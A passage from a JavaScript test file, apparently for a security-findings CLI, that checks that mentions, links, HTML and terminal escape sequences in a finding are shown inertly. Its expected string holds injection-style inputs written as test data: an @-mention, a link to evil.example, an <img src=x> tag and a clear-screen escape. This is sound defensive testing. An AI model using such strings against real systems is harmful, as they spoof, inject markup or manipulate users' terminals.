    expect(md).not.toMatch(/@(?!\u200B)\w/);

    // On the terminal the escape sequence is shown, not run.
    const shown = await run(["finding", id, "--data-dir", dataDir]);
    expect(shown.stdout.split("\n")[1]).toBe(
      "@security-team see [this](https://evil.example) | <img src=x> `x` *y* _z_ #1<U+001B>[2J",
    );
  });
});
